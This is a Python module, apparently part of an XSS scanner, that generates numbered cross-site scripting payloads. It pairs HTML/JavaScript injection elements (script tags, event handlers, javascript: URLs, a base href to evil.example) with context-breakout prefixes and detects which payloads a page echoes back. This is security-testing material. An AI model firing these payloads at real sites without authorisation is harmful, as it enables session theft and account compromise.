"""What could run in a page that writes it as it came: elements, and ways out of where it stands."""

import re
from collections.abc import Iterable, Sequence

#: The page counts how often this is called, and by which payload: each calls it with its number.
HOOK = "xss"
#: Where the number of a payload stands.
_HERE = "@"
_CALL = f"{HOOK}({_HERE})"
ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    f"<iframe src=javascript:parent.{_CALL}>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<body onload={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<math href=javascript:{_CALL}>x</math>",
    f"<style onload={_CALL}>*{{}}</style>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_CALL}>",
    f"<base href=//evil.example/{_CALL}/>",
    f"<form><button formaction=javascript:{_CALL}>x</form>",
    f"<object data=javascript:{_CALL}>",
    f"<embed src=javascript:{_CALL}>",
    f"<link rel=stylesheet href=//evil.example/{_CALL}.css>",
    f"<p style=animation-name:x onanimationstart={_CALL}>",
    f"x onmouseover={_CALL} onfocus={_CALL} autofocus x",
    f"javascript:{_CALL}",
    f"${{{_CALL}}}{{{{{_CALL}}}}}",
    f"<marquee onstart={_CALL}>",
    f"<ScRiPt/x>{_CALL}</sCrIpT>",
)
WAYS_OUT = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "`",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</option></select>",
    "\\\"'>",
    "&quot;>",
    "%22%3E",
    "\u202e",
    "＜",
    "\x0b",
    "</noscript>",
)
_NUMBER = re.compile(rf"{HOOK}\((\d+)\)")


def payloads(n: int) -> Sequence[str]:
    """Return so many of them, at most 500, no two alike; few of them are of each kind."""
    found = [
        WAYS_OUT[(number + turn) % len(WAYS_OUT)] + element
        for turn in range(len(WAYS_OUT))
        for number, element in enumerate(ELEMENTS)
    ]
    return [one.replace(_HERE, str(number)) for number, one in enumerate(found[:n])]


def numbers_in(text: str) -> frozenset[int]:
    """Return the numbers of the payloads that a text holds, whole or in part."""
    return frozenset(every_number_in(text))


def every_number_in(text: str) -> Sequence[int]:
    """Return them as often as they are there."""
    return [int(number) for number in _NUMBER.findall(text)]


def packs(texts: Iterable[str], room: int) -> Sequence[Sequence[str]]:
    """Return the texts in their order, in groups that fit into so many characters, spaces between.

    What does not fit by itself is a group of its own.
    """
    found: list[list[str]] = []
    left = -1
    for text in texts:
        if len(text) + 1 > left:
            found.append([])
            left = room + 1
        found[-1].append(text)
        left -= len(text) + 1
    return found
